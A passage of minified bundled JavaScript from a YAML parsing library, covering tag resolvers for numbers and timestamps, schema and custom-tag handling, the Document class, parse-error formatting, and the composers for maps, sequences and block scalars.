e))return PE.stringifyNumber(t);let r="";e<0&&(r="-",e*=s(-1));let n=s(60),o=[e%n];return e<60?o.unshift(0):(e=(e-o[0])/n,o.unshift(e%n),e>=60&&(e=(e-o[0])/n,o.
unshift(e))),r+o.map(i=>String(i).padStart(2,"0")).join(":").replace(/000000\d*$/,"")}var RE={identify:t=>typeof t=="bigint"||Number.isInteger(t),default:!0,tag:"\
tag:yaml.org,2002:int",format:"TIME",test:/^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+$/,resolve:(t,e,{intAsBigInt:s})=>Yd(t,s),stringify:Kb},IE={identify:t=>typeof t==
"number",default:!0,tag:"tag:yaml.org,2002:float",format:"TIME",test:/^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+\.[0-9_]*$/,resolve:t=>Yd(t,!1),stringify:Kb},Yb={identify:t=>t instanceof
Date,default:!0,tag:"tag:yaml.org,2002:timestamp",test:RegExp("^([0-9]{4})-([0-9]{1,2})-([0-9]{1,2})(?:(?:t|T|[ \\t]+)([0-9]{1,2}):([0-9]{1,2}):([0-9]{1,2}(\\.[0-\
9]+)?)(?:[ \\t]*(Z|[-+][012]?[0-9](?::[0-9]{2})?))?)?$"),resolve(t){let e=t.match(Yb.test);if(!e)throw new Error("!!timestamp expects a date, starting with yyyy\
-mm-dd");let[,s,r,n,o,i,a]=e.map(Number),l=e[7]?Number((e[7]+"00").substr(1,3)):0,c=Date.UTC(s,r-1,n,o||0,i||0,a||0,l),d=e[8];if(d&&d!=="Z"){let u=Yd(d,!1);Math.
abs(u)<30&&(u*=60),c-=6e4*u}return new Date(c)},stringify:({value:t})=>t?.toISOString().replace(/(T00:00:00)?\.000Z$/,"")??""};Oa.floatTime=IE;Oa.intTime=RE;Oa.
timestamp=Yb});var Jb=D(Xb=>{"use strict";var qE=tn(),OE=va(),NE=sn(),LE=eo(),DE=Wd(),Qb=Hb(),Xd=Bb(),Na=Gb(),jE=fa(),WE=Ud(),ME=Aa(),FE=Kd(),Jd=Qd(),VE=[qE.map,NE.seq,LE.string,
OE.nullTag,Qb.trueTag,Qb.falseTag,Na.intBin,Na.intOct,Na.int,Na.intHex,Xd.floatNaN,Xd.floatExp,Xd.float,DE.binary,jE.merge,WE.omap,ME.pairs,FE.set,Jd.intTime,Jd.
floatTime,Jd.timestamp];Xb.schema=VE});var ly=D(tu=>{"use strict";var sy=tn(),UE=va(),ry=sn(),HE=eo(),BE=Rd(),Zd=qd(),eu=Nd(),zE=Rb(),GE=Ob(),ny=Wd(),oo=fa(),oy=Ud(),iy=Aa(),Zb=Jb(),ay=Kd(),La=Qd(),ey=new Map(
[["core",zE.schema],["failsafe",[sy.map,ry.seq,HE.string]],["json",GE.schema],["yaml11",Zb.schema],["yaml-1.1",Zb.schema]]),ty={binary:ny.binary,bool:BE.boolTag,
float:Zd.float,floatExp:Zd.floatExp,floatNaN:Zd.floatNaN,floatTime:La.floatTime,int:eu.int,intHex:eu.intHex,intOct:eu.intOct,intTime:La.intTime,map:sy.map,merge:oo.
merge,null:UE.nullTag,omap:oy.omap,pairs:iy.pairs,seq:ry.seq,set:ay.set,timestamp:La.timestamp},KE={"tag:yaml.org,2002:binary":ny.binary,"tag:yaml.org,2002:merg\
e":oo.merge,"tag:yaml.org,2002:omap":oy.omap,"tag:yaml.org,2002:pairs":iy.pairs,"tag:yaml.org,2002:set":ay.set,"tag:yaml.org,2002:timestamp":La.timestamp};function YE(t,e,s){
let r=ey.get(e);if(r&&!t)return s&&!r.includes(oo.merge)?r.concat(oo.merge):r.slice();let n=r;if(!n)if(Array.isArray(t))n=[];else{let o=Array.from(ey.keys()).filter(
i=>i!=="yaml11").map(i=>JSON.stringify(i)).join(", ");throw new Error(`Unknown schema "${e}"; use one of ${o} or define customTags array`)}if(Array.isArray(t))for(let o of t)
n=n.concat(o);else typeof t=="function"&&(n=t(n.slice()));return s&&(n=n.concat(oo.merge)),n.reduce((o,i)=>{let a=typeof i=="string"?ty[i]:i;if(!a){let l=JSON.stringify(
i),c=Object.keys(ty).map(d=>JSON.stringify(d)).join(", ");throw new Error(`Unknown custom tag ${l}; use one of ${c}`)}return o.includes(a)||o.push(a),o},[])}tu.
coreKnownTags=KE;tu.getTags=YE});var nu=D(cy=>{"use strict";var su=re(),QE=tn(),XE=sn(),JE=eo(),Da=ly(),ZE=(t,e)=>t.key<e.key?-1:t.key>e.key?1:0,ru=class t{constructor({compat:e,customTags:s,merge:r,
resolveKnownTags:n,schema:o,sortMapEntries:i,toStringDefaults:a}){this.compat=Array.isArray(e)?Da.getTags(e,"compat"):e?Da.getTags(null,e):null,this.name=typeof o==
"string"&&o||"core",this.knownTags=n?Da.coreKnownTags:{},this.tags=Da.getTags(s,this.name,r),this.toStringOptions=a??null,Object.defineProperty(this,su.MAP,{value:QE.
map}),Object.defineProperty(this,su.SCALAR,{value:JE.string}),Object.defineProperty(this,su.SEQ,{value:XE.seq}),this.sortMapEntries=typeof i=="function"?i:i===!0?
ZE:null}clone(){let e=Object.create(t.prototype,Object.getOwnPropertyDescriptors(this));return e.tags=this.tags.slice(),e}};cy.Schema=ru});var uy=D(dy=>{"use strict";var eA=re(),ou=Xn(),io=Gn();function tA(t,e){let s=[],r=e.directives===!0;if(e.directives!==!1&&t.directives){let l=t.directives.toString(
t);l?(s.push(l),r=!0):t.directives.docStart&&(r=!0)}r&&s.push("---");let n=ou.createStringifyContext(t,e),{commentString:o}=n.options;if(t.commentBefore){s.length!==
1&&s.unshift("");let l=o(t.commentBefore);s.unshift(io.indentComment(l,""))}let i=!1,a=null;if(t.contents){if(eA.isNode(t.contents)){if(t.contents.spaceBefore&&
r&&s.push(""),t.contents.commentBefore){let d=o(t.contents.commentBefore);s.push(io.indentComment(d,""))}n.forceBlockIndent=!!t.comment,a=t.contents.comment}let l=a?
void 0:()=>i=!0,c=ou.stringify(t.contents,n,()=>a=null,l);a&&(c+=io.lineComment(c,"",o(a))),(c[0]==="|"||c[0]===">")&&s[s.length-1]==="---"?s[s.length-1]=`--- ${c}`:
s.push(c)}else s.push(ou.stringify(t.contents,n));if(t.directives?.docEnd)if(t.comment){let l=o(t.comment);l.includes(`
`)?(s.push("..."),s.push(io.indentComment(l,""))):s.push(`... ${l}`)}else s.push("...");else{let l=t.comment;l&&i&&(l=l.replace(/^\n+/,"")),l&&((!i||a)&&s[s.length-
1]!==""&&s.push(""),s.push(io.indentComment(o(l),"")))}return s.join(`
`)+`
`}dy.stringifyDocument=tA});var ao=D(py=>{"use strict";var sA=Bn(),nn=ra(),Ct=re(),rA=Vs(),nA=js(),oA=nu(),iA=uy(),iu=Zi(),aA=dd(),lA=zn(),au=cd(),lu=class t{constructor(e,s,r){this.commentBefore=
null,this.comment=null,this.errors=[],this.warnings=[],Object.defineProperty(this,Ct.NODE_TYPE,{value:Ct.DOC});let n=null;typeof s=="function"||Array.isArray(s)?
n=s:r===void 0&&s&&(r=s,s=void 0);let o=Object.assign({intAsBigInt:!1,keepSourceTokens:!1,logLevel:"warn",prettyErrors:!0,strict:!0,stringKeys:!1,uniqueKeys:!0,
version:"1.2"},r);this.options=o;let{version:i}=o;r?._directives?(this.directives=r._directives.atDocument(),this.directives.yaml.explicit&&(i=this.directives.yaml.
version)):this.directives=new au.Directives({version:i}),this.setSchema(i,r),this.contents=e===void 0?null:this.createNode(e,n,r)}clone(){let e=Object.create(t.
prototype,{[Ct.NODE_TYPE]:{value:Ct.DOC}});return e.commentBefore=this.commentBefore,e.comment=this.comment,e.errors=this.errors.slice(),e.warnings=this.warnings.
slice(),e.options=Object.assign({},this.options),this.directives&&(e.directives=this.directives.clone()),e.schema=this.schema.clone(),e.contents=Ct.isNode(this.
contents)?this.contents.clone(e.schema):this.contents,this.range&&(e.range=this.range.slice()),e}add(e){on(this.contents)&&this.contents.add(e)}addIn(e,s){on(this.
contents)&&this.contents.addIn(e,s)}createAlias(e,s){if(!e.anchor){let r=iu.anchorNames(this);e.anchor=!s||r.has(s)?iu.findNewAnchor(s||"a",r):s}return new sA.Alias(
e.anchor)}createNode(e,s,r){let n;if(typeof s=="function")e=s.call({"":e},"",e),n=s;else if(Array.isArray(s)){let g=x=>typeof x=="number"||x instanceof String||
x instanceof Number,y=s.filter(g).map(String);y.length>0&&(s=s.concat(y)),n=s}else r===void 0&&s&&(r=s,s=void 0);let{aliasDuplicateObjects:o,anchorPrefix:i,flow:a,
keepUndefined:l,onTagObj:c,tag:d}=r??{},{onAnchor:u,setAnchors:p,sourceObjects:f}=iu.createNodeAnchors(this,i||"a"),m={aliasDuplicateObjects:o??!0,keepUndefined:l??
!1,onAnchor:u,onTagObj:c,replacer:n,schema:this.schema,sourceObjects:f},h=lA.createNode(e,d,m);return a&&Ct.isCollection(h)&&(h.flow=!0),p(),h}createPair(e,s,r={}){
let n=this.createNode(e,null,r),o=this.createNode(s,null,r);return new rA.Pair(n,o)}delete(e){return on(this.contents)?this.contents.delete(e):!1}deleteIn(e){return nn.
isEmptyPath(e)?this.contents==null?!1:(this.contents=null,!0):on(this.contents)?this.contents.deleteIn(e):!1}get(e,s){return Ct.isCollection(this.contents)?this.
contents.get(e,s):void 0}getIn(e,s){return nn.isEmptyPath(e)?!s&&Ct.isScalar(this.contents)?this.contents.value:this.contents:Ct.isCollection(this.contents)?this.
contents.getIn(e,s):void 0}has(e){return Ct.isCollection(this.contents)?this.contents.has(e):!1}hasIn(e){return nn.isEmptyPath(e)?this.contents!==void 0:Ct.isCollection(
this.contents)?this.contents.hasIn(e):!1}set(e,s){this.contents==null?this.contents=nn.collectionFromPath(this.schema,[e],s):on(this.contents)&&this.contents.set(
e,s)}setIn(e,s){nn.isEmptyPath(e)?this.contents=s:this.contents==null?this.contents=nn.collectionFromPath(this.schema,Array.from(e),s):on(this.contents)&&this.contents.
setIn(e,s)}setSchema(e,s={}){typeof e=="number"&&(e=String(e));let r;switch(e){case"1.1":this.directives?this.directives.yaml.version="1.1":this.directives=new au.
Directives({version:"1.1"}),r={resolveKnownTags:!1,schema:"yaml-1.1"};break;case"1.2":case"next":this.directives?this.directives.yaml.version=e:this.directives=
new au.Directives({version:e}),r={resolveKnownTags:!0,schema:"core"};break;case null:this.directives&&delete this.directives,r=null;break;default:{let n=JSON.stringify(
e);throw new Error(`Expected '1.1', '1.2' or null as first argument, but found: ${n}`)}}if(s.schema instanceof Object)this.schema=s.schema;else if(r)this.schema=
new oA.Schema(Object.assign(r,s));else throw new Error("With a null YAML version, the { schema: Schema } option is required")}toJS({json:e,jsonArg:s,mapAsMap:r,
maxAliasCount:n,onAnchor:o,reviver:i}={}){let a={anchors:new Map,doc:this,keep:!e,mapAsMap:r===!0,mapKeyWarned:!1,maxAliasCount:typeof n=="number"?n:100},l=nA.toJS(
this.contents,s??"",a);if(typeof o=="function")for(let{count:c,res:d}of a.anchors.values())o(d,c);return typeof i=="function"?aA.applyReviver(i,{"":l},"",l):l}toJSON(e,s){
return this.toJS({json:!0,jsonArg:e,mapAsMap:!1,onAnchor:s})}toString(e={}){if(this.errors.length>0)throw new Error("Document with errors cannot be stringified");
if("indent"in e&&(!Number.isInteger(e.indent)||Number(e.indent)<=0)){let s=JSON.stringify(e.indent);throw new Error(`"indent" option must be a positive integer,\
 not ${s}`)}return iA.stringifyDocument(this,e)}};function on(t){if(Ct.isCollection(t))return!0;throw new Error("Expected a YAML collection as document contents")}
py.Document=lu});var uo=D(co=>{"use strict";var lo=class extends Error{constructor(e,s,r,n){super(),this.name=e,this.code=r,this.message=n,this.pos=s}},cu=class extends lo{constructor(e,s,r){
super("YAMLParseError",e,s,r)}},du=class extends lo{constructor(e,s,r){super("YAMLWarning",e,s,r)}},cA=(t,e)=>s=>{if(s.pos[0]===-1)return;s.linePos=s.pos.map(a=>e.
linePos(a));let{line:r,col:n}=s.linePos[0];s.message+=` at line ${r}, column ${n}`;let o=n-1,i=t.substring(e.lineStarts[r-1],e.lineStarts[r]).replace(/[\n\r]+$/,
"");if(o>=60&&i.length>80){let a=Math.min(o-39,i.length-79);i="\u2026"+i.substring(a),o-=a-1}if(i.length>80&&(i=i.substring(0,79)+"\u2026"),r>1&&/^ *$/.test(i.substring(
0,o))){let a=t.substring(e.lineStarts[r-2],e.lineStarts[r-1]);a.length>80&&(a=a.substring(0,79)+`\u2026
`),i=a+i}if(/[^ ]/.test(i)){let a=1,l=s.linePos[1];l?.line===r&&l.col>n&&(a=Math.max(1,Math.min(l.col-n,80-o)));let c=" ".repeat(o)+"^".repeat(a);s.message+=`:

${i}
${c}
`}};co.YAMLError=lo;co.YAMLParseError=cu;co.YAMLWarning=du;co.prettifyError=cA});var po=D(fy=>{"use strict";function dA(t,{flow:e,indicator:s,next:r,offset:n,onError:o,parentIndent:i,startOnNewline:a}){let l=!1,c=a,d=a,u="",p="",f=!1,m=!1,h=null,
g=null,y=null,x=null,_=null,E=null,$=null;for(let A of t)switch(m&&(A.type!=="space"&&A.type!=="newline"&&A.type!=="comma"&&o(A.offset,"MISSING_CHAR","Tags and \
anchors must be separated from the next token by white space"),m=!1),h&&(c&&A.type!=="comment"&&A.type!=="newline"&&o(h,"TAB_AS_INDENT","Tabs are not allowed as\
 indentation"),h=null),A.type){case"space":!e&&(s!=="doc-start"||r?.type!=="flow-collection")&&A.source.includes("	")&&(h=A),d=!0;break;case"comment":{d||o(A,"M\
ISSING_CHAR","Comments must be separated from other tokens by white space characters");let N=A.source.substring(1)||" ";u?u+=p+N:u=N,p="",c=!1;break}case"newlin\
e":c?u?u+=A.source:(!E||s!=="seq-item-ind")&&(l=!0):p+=A.source,c=!0,f=!0,(g||y)&&(x=A),d=!0;break;case"anchor":g&&o(A,"MULTIPLE_ANCHORS","A node can have at mo\
st one anchor"),A.source.endsWith(":")&&o(A.offset+A.source.length-1,"BAD_ALIAS","Anchor ending in : is ambiguous",!0),g=A,$??($=A.offset),c=!1,d=!1,m=!0;break;case"\
tag":{y&&o(A,"MULTIPLE_TAGS","A node can have at most one tag"),y=A,$??($=A.offset),c=!1,d=!1,m=!0;break}case s:(g||y)&&o(A,"BAD_PROP_ORDER",`Anchors and tags m\
ust be after the ${A.source} indicator`),E&&o(A,"UNEXPECTED_TOKEN",`Unexpected ${A.source} in ${e??"collection"}`),E=A,c=s==="seq-item-ind"||s==="explicit-key-i\
nd",d=!1;break;case"comma":if(e){_&&o(A,"UNEXPECTED_TOKEN",`Unexpected , in ${e}`),_=A,c=!1,d=!1;break}default:o(A,"UNEXPECTED_TOKEN",`Unexpected ${A.type} toke\
n`),c=!1,d=!1}let T=t[t.length-1],q=T?T.offset+T.source.length:n;return m&&r&&r.type!=="space"&&r.type!=="newline"&&r.type!=="comma"&&(r.type!=="scalar"||r.source!==
"")&&o(r.offset,"MISSING_CHAR","Tags and anchors must be separated from the next token by white space"),h&&(c&&h.indent<=i||r?.type==="block-map"||r?.type==="bl\
ock-seq")&&o(h,"TAB_AS_INDENT","Tabs are not allowed as indentation"),{comma:_,found:E,spaceBefore:l,comment:u,hasNewline:f,anchor:g,tag:y,newlineAfterProp:x,end:q,
start:$??q}}fy.resolveProps=dA});var ja=D(my=>{"use strict";function uu(t){if(!t)return null;switch(t.type){case"alias":case"scalar":case"double-quoted-scalar":case"single-quoted-scalar":if(t.source.
includes(`
`))return!0;if(t.end){for(let e of t.end)if(e.type==="newline")return!0}return!1;case"flow-collection":for(let e of t.items){for(let s of e.start)if(s.type==="n\
ewline")return!0;if(e.sep){for(let s of e.sep)if(s.type==="newline")return!0}if(uu(e.key)||uu(e.value))return!0}return!1;default:return!0}}my.containsNewline=uu});var pu=D(hy=>{"use strict";var uA=ja();function pA(t,e,s){if(e?.type==="flow-collection"){let r=e.end[0];r.indent===t&&(r.source==="]"||r.source==="}")&&uA.containsNewline(
e)&&s(r,"BAD_INDENT","Flow end indicator should be more indented than parent",!0)}}hy.flowIndentCheck=pA});var fu=D(by=>{"use strict";var gy=re();function fA(t,e,s){let{uniqueKeys:r}=t.options;if(r===!1)return!1;let n=typeof r=="function"?r:(o,i)=>o===i||gy.isScalar(
o)&&gy.isScalar(i)&&o.value===i.value;return e.some(o=>n(o.key,s))}by.mapIncludes=fA});var $y=D(xy=>{"use strict";var yy=Vs(),mA=Hs(),wy=po(),hA=ja(),ky=pu(),gA=fu(),vy="All mapping items must start at the same column";function bA({composeNode:t,composeEmptyNode:e},s,r,n,o){
let i=o?.nodeClass??mA.YAMLMap,a=new i(s.schema);s.atRoot&&(s.atRoot=!1);let l=r.offset,c=null;for(let d of r.items){let{start:u,key:p,sep:f,value:m}=d,h=wy.resolveProps(
u,{indicator:"explicit-key-ind",next:p??f?.[0],offset:l,onError:n,parentIndent:r.indent,startOnNewline:!0}),g=!h.found;if(g){if(p&&(p.type==="block-seq"?n(l,"BL\
OCK_AS_IMPLICIT_KEY","A block sequence may not be used as an implicit map key"):"indent"in p&&p.indent!==r.indent&&n(l,"BAD_INDENT",vy)),!h.anchor&&!h.tag&&!f){
c=h.end,h.comment&&(a.comment?a.comment+=`
`+h.comment:a.comment=h.comment);continue}(h.newlineAfterProp||hA.containsNewline(p))&&n(p??u[u.length-1],"MULTILINE_IMPLICIT_KEY","Implicit keys need to be on \
a single line")}else h.found?.indent!==r.indent&&n(l,"BAD_INDENT",vy);s.atKey=!0;let y=h.end,x=p?t(s,p,h,n):e(s,y,u,null,h,n);s.schema.compat&&ky.flowIndentCheck(
r.indent,p,n),s.atKey=!1,gA.mapIncludes(s,a.items,x)&&n(y,"DUPLICATE_KEY","Map keys must be unique");let _=wy.resolveProps(f??[],{indicator:"map-value-ind",next:m,
offset:x.range[2],onError:n,parentIndent:r.indent,startOnNewline:!p||p.type==="block-scalar"});if(l=_.end,_.found){g&&(m?.type==="block-map"&&!_.hasNewline&&n(l,
"BLOCK_AS_IMPLICIT_KEY","Nested mappings are not allowed in compact mappings"),s.options.strict&&h.start<_.found.offset-1024&&n(x.range,"KEY_OVER_1024_CHARS","T\
he : indicator must be at most 1024 chars after the start of an implicit block mapping key"));let E=m?t(s,m,_,n):e(s,l,f,null,_,n);s.schema.compat&&ky.flowIndentCheck(
r.indent,m,n),l=E.range[2];let $=new yy.Pair(x,E);s.options.keepSourceTokens&&($.srcToken=d),a.items.push($)}else{g&&n(x.range,"MISSING_CHAR","Implicit map keys\
 need to be followed by map values"),_.comment&&(x.comment?x.comment+=`
`+_.comment:x.comment=_.comment);let E=new yy.Pair(x);s.options.keepSourceTokens&&(E.srcToken=d),a.items.push(E)}}return c&&c<l&&n(c,"IMPOSSIBLE","Map comment w\
ith trailing content"),a.range=[r.offset,l,c??l],a}xy.resolveBlockMap=bA});var Sy=D(_y=>{"use strict";var yA=Bs(),wA=po(),kA=pu();function vA({composeNode:t,composeEmptyNode:e},s,r,n,o){let i=o?.nodeClass??yA.YAMLSeq,a=new i(s.schema);
s.atRoot&&(s.atRoot=!1),s.atKey&&(s.atKey=!1);let l=r.offset,c=null;for(let{start:d,value:u}of r.items){let p=wA.resolveProps(d,{indicator:"seq-item-ind",next:u,
offset:l,onError:n,parentIndent:r.indent,startOnNewline:!0});if(!p.found)if(p.anchor||p.tag||u)u?.type==="block-seq"?n(p.end,"BAD_INDENT","All sequence items mu\
st start at the same column"):n(l,"MISSING_CHAR","Sequence item without - indicator");else{c=p.end,p.comment&&(a.comment=p.comment);continue}let f=u?t(s,u,p,n):
e(s,p.end,d,null,p,n);s.schema.compat&&kA.flowIndentCheck(r.indent,u,n),l=f.range[2],a.items.push(f)}return a.range=[r.offset,l,c??l],a}_y.resolveBlockSeq=vA});var an=D(Cy=>{"use strict";function xA(t,e,s,r){let n="";if(t){let o=!1,i="";for(let a of t){let{source:l,type:c}=a;switch(c){case"space":o=!0;break;case"commen\
t":{s&&!o&&r(a,"MISSING_CHAR","Comments must be separated from other tokens by white space characters");let d=l.substring(1)||" ";n?n+=i+d:n=d,i="";break}case"n\
ewline":n&&(i+=l),o=!0;break;default:r(a,"UNEXPECTED_TOKEN",`Unexpected ${c} at node end`)}e+=l.length}}return{comment:n,offset:e}}Cy.resolveEnd=xA});var Py=D(Ty=>{"use strict";var $A=re(),_A=Vs(),Ey=Hs(),SA=Bs(),CA=an(),Ay=po(),EA=ja(),AA=fu(),mu="Block collections are not allowed within flow collections",hu=t=>t&&
(t.type==="block-map"||t.type==="block-seq");function TA({composeNode:t,composeEmptyNode:e},s,r,n,o){let i=r.start.source==="{",a=i?"flow map":"flow sequence",l=o?.
nodeClass??(i?Ey.YAMLMap:SA.YAMLSeq),c=new l(s.schema);c.flow=!0;let d=s.atRoot;d&&(s.atRoot=!1),s.atKey&&(s.atKey=!1);let u=r.offset+r.start.source.length;for(let g=0;g<
r.items.length;++g){let y=r.items[g],{start:x,key:_,sep:E,value:$}=y,T=Ay.resolveProps(x,{flow:a,indicator:"explicit-key-ind",next:_??E?.[0],offset:u,onError:n,
parentIndent:r.indent,startOnNewline:!1});if(!T.found){if(!T.anchor&&!T.tag&&!E&&!$){g===0&&T.comma?n(T.comma,"UNEXPECTED_TOKEN",`Unexpected , in ${a}`):g<r.items.
length-1&&n(T.start,"UNEXPECTED_TOKEN",`Unexpected empty item in ${a}`),T.comment&&(c.comment?c.comment+=`
`+T.comment:c.comment=T.comment),u=T.end;continue}!i&&s.options.strict&&EA.containsNewline(_)&&n(_,"MULTILINE_IMPLICIT_KEY","Implicit keys of flow sequence pair\
s need to be on a single line")}if(g===0)T.comma&&n(T.comma,"UNEXPECTED_TOKEN",`Unexpected , in ${a}`);else if(T.comma||n(T.start,"MISSING_CHAR",`Missing , betw\
een ${a} items`),T.comment){let q="";e:for(let A of x)switch(A.type){case"comma":case"space":break;case"comment":q=A.source.substring(1);break e;default:break e}
if(q){let A=c.items[c.items.length-1];$A.isPair(A)&&(A=A.value??A.key),A.comment?A.comment+=`
`+q:A.comment=q,T.comment=T.comment.substring(q.length+1)}}if(!i&&!E&&!T.found){let q=$?t(s,$,T,n):e(s,T.end,E,null,T,n);c.items.push(q),u=q.range[2],hu($)&&n(q.
range,"BLOCK_IN_FLOW",mu)}else{s.atKey=!0;let q=T.end,A=_?t(s,_,T,n):e(s,q,x,null,T,n);hu(_)&&n(A.range,"BLOCK_IN_FLOW",mu),s.atKey=!1;let N=Ay.resolveProps(E??
[],{flow:a,indicator:"map-value-ind",next:$,offset:A.range[2],onError:n,parentIndent:r.indent,startOnNewline:!1});if(N.found){if(!i&&!T.found&&s.options.strict){
if(E)for(let V of E){if(V===N.found)break;if(V.type==="newline"){n(V,"MULTILINE_IMPLICIT_KEY","Implicit keys of flow sequence pairs need to be on a single line");
break}}T.start<N.found.offset-1024&&n(N.found,"KEY_OVER_1024_CHARS","The : indicator must be at most 1024 chars after the start of an implicit flow sequence key")}}else
$&&("source"in $&&$.source?.[0]===":"?n($,"MISSING_CHAR",`Missing space after : in ${a}`):n(N.start,"MISSING_CHAR",`Missing , or : between ${a} items`));let j=$?
t(s,$,N,n):N.found?e(s,N.end,E,null,N,n):null;j?hu($)&&n(j.range,"BLOCK_IN_FLOW",mu):N.comment&&(A.comment?A.comment+=`
`+N.comment:A.comment=N.comment);let xe=new _A.Pair(A,j);if(s.options.keepSourceTokens&&(xe.srcToken=y),i){let V=c;AA.mapIncludes(s,V.items,A)&&n(q,"DUPLICATE_K\
EY","Map keys must be unique"),V.items.push(xe)}else{let V=new Ey.YAMLMap(s.schema);V.flow=!0,V.items.push(xe);let ye=(j??A).range;V.range=[A.range[0],ye[1],ye[2]],
c.items.push(V)}u=j?j.range[2]:N.end}}let p=i?"}":"]",[f,...m]=r.end,h=u;if(f?.source===p)h=f.offset+f.source.length;else{let g=a[0].toUpperCase()+a.substring(1),
y=d?`${g} must end with a ${p}`:`${g} in block collection must be sufficiently indented and end with a ${p}`;n(u,d?"MISSING_CHAR":"BAD_INDENT",y),f&&f.source.length!==
1&&m.unshift(f)}if(m.length>0){let g=CA.resolveEnd(m,h,s.options.strict,n);g.comment&&(c.comment?c.comment+=`
`+g.comment:c.comment=g.comment),c.range=[r.offset,h,g.offset]}else c.range=[r.offset,h,h];return c}Ty.resolveFlowCollection=TA});var Iy=D(Ry=>{"use strict";var PA=re(),RA=qe(),IA=Hs(),qA=Bs(),OA=$y(),NA=Sy(),LA=Py();function gu(t,e,s,r,n,o){let i=s.type==="block-map"?OA.resolveBlockMap(t,
e,s,r,o):s.type==="block-seq"?NA.resolveBlockSeq(t,e,s,r,o):LA.resolveFlowCollection(t,e,s,r,o),a=i.constructor;return n==="!"||n===a.tagName?(i.tag=a.tagName,i):
(n&&(i.tag=n),i)}function DA(t,e,s,r,n){let o=r.tag,i=o?e.directives.tagName(o.source,p=>n(o,"TAG_RESOLVE_FAILED",p)):null;if(s.type==="block-seq"){let{anchor:p,
newlineAfterProp:f}=r,m=p&&o?p.offset>o.offset?p:o:p??o;m&&(!f||f.offset<m.offset)&&n(m,"MISSING_CHAR","Missing newline after block sequence props")}let a=s.type===
"block-map"?"map":s.type==="block-seq"?"seq":s.start.source==="{"?"map":"seq";if(!o||!i||i==="!"||i===IA.YAMLMap.tagName&&a==="map"||i===qA.YAMLSeq.tagName&&a===
"seq")return gu(t,e,s,n,i);let l=e.schema.tags.find(p=>p.tag===i&&p.collection===a);if(!l){let p=e.schema.knownTags[i];if(p?.collection===a)e.schema.tags.push(Object.
assign({},p,{default:!1})),l=p;else return p?n(o,"BAD_COLLECTION_TYPE",`${p.tag} used for ${a} collection, but expects ${p.collection??"scalar"}`,!0):n(o,"TAG_R\
ESOLVE_FAILED",`Unresolved tag: ${i}`,!0),gu(t,e,s,n,i)}let c=gu(t,e,s,n,i,l),d=l.resolve?.(c,p=>n(o,"TAG_RESOLVE_FAILED",p),e.options)??c,u=PA.isNode(d)?d:new RA.
Scalar(d);return u.range=c.range,u.tag=i,l?.format&&(u.format=l.format),u}Ry.composeCollection=DA});var yu=D(qy=>{"use strict";var bu=qe();function jA(t,e,s){let r=e.offset,n=WA(e,t.options.strict,s);if(!n)return{value:"",type:null,comment:"",range:[r,r,r]};let o=n.
mode===">"?bu.Scalar.BLOCK_FOLDED:bu.Scalar.BLOCK_LITERAL,i=e.source?MA(e.source):[],a=i.length;for(let h=i.length-1;h>=0;--h){let g=i[h][1];if(g===""||g==="\r")
a=h;else break}if(a===0){let h=n.chomp==="+"&&i.length>0?`
`.repeat(Math.max(1,i.length-1)):"",g=r+n.length;return e.source&&(g+=e.source.length),{value:h,type:o,comment:n.comment,range:[r,g,g]}}let l=e.indent+n.indent,
c=e.offset+n.length,d=0;for(let h=0;h<a;++h){let[g,y]=i[h];if(y===""||y==="\r")n.indent===0&&g.length>l&&(l=g.length);else{g.length<l&&s(c+g.length,"MISSING_CHA\
R","Block scalars with more-indented leading empty lines must use an explicit indentation indicator"),n.indent===0&&(l=g.length),d=h,l===0&&!t.atRoot&&s(c,"BAD_\
INDENT","Block scalar values in collections must be indented");break}c+=g.length+y.length+1}for(let h=i.length-1;h>=a;--h)i[h][0].length>l&&(a=h+1);let u="",p="",
f=!1;for(let h=0;h<d;++h)u+=i[h][0].slice(l)+`
`;for(let h=d;h<a;++h){let[g,y]=i[h];c+=g.length+y.length+1;let x=y[y.length-1]==="\r";if(x&&(y=y.slice(0,-1)),y&&g.length<l){let E=`Block scalar lines must not\
 be less indented than their ${n.indent?"explicit indentation indicator":"first line"}`;s(c-y.length-(x?2:1),"BAD_INDENT",E),g=""}o===bu.Scalar.BLOCK_LITERAL?(u+=
p+g.slice(l)+y,p=`
`):g.length>l||y[0]==="	"?(p===" "?p=`
`:!f&&p===`
`&&(p=`

`),u+=p+g.slice(l)+y,p=`
`,f=!0):y===""?p===`
`?u+=`
`:p=`
`:(u+=p+y,p=" ",f=!1)}switch(n.chomp){case"-":break;case"+":for(let h=a;h<i.length;++h)u+=`
`+i[h][0].slice(l);u[u.length-1]!==`
`&&(u+=`
`);break;default:u+=`
`}let m=r+n.length+e.source.length;return{value:u,type:o,comment:n.comment,range:[r,m,m]}}function WA({offset:t,props:e},s,r){if(e[0].type!=="block-scalar-heade\
r")return r(e[0],"IMPOSSIBLE","Block scalar header not found"),null;let{source:n}=e[0],o=n[0],i=0,a="",l=-1;for(let p=1;p<n.length;++p){let f=n[p];if(!a&&(f==="\
-"||f==="+"))a=f;else{let m=Number(f);!i&&m?i=m:l===-1&&(l=t+p)}}l!==-1&&r(l,"UNEXPECTED_TOKEN",`Block scalar header includes extra characters: ${n}`);let c=!1,
d="",u=n.length;for(let p=1;p<e.length;++p){let f=e[p];switch(f.type){case"space":c=!0;case"newline":u+=f.source.length;break;case"comment":s&&!c&&r(f,"MISSING_\
CHAR","Comments must be separated from other tokens by white space characters"),u+=f.source.length,d=f.source.substring(1);break;case"error":r(f,"UNEXPECTED_TOK\
EN",f.message),u+=f.source.length;break;default:{let m=`Unexpected token in block scalar header: ${f.type}`;r(f,"UNEXPECTED_TOKEN",m);let h=f.source;h&&typeof h==
"string"&&(u+=h.length)}}}return{mode:o,indent:i,chomp:a,comment:d,length:u}}function MA(t){let e=t.split(/\n( *)/),s=e[0],r=s.match(/^( *)/),o=[r?.[1]?[r[1],s.
slice(r[1].length)]:["",s]];for(let i=1;i<e.length;i+=2)o.push([e[i],e[i+1]]);return o}qy.resolveBlockScalar=jA});var ku=D(Ny=>{"use strict";var wu=qe(),FA=an();function VA(t,e,s){let{offset:r,type:n,source:o,end:i}=t,a,l,c=(p,f,m)=>s(r+p,f,m);switch(n){case"scalar":a=wu.Scalar.
PLAIN,l=UA(o,c);break;case"single-quoted-scalar":a=wu.Scalar.QUOTE_SINGLE,l=HA(o,c);break;case"double-quoted-scalar":a=wu.Scalar.QUOTE_DOUBLE,l=BA(o,c);break;default:
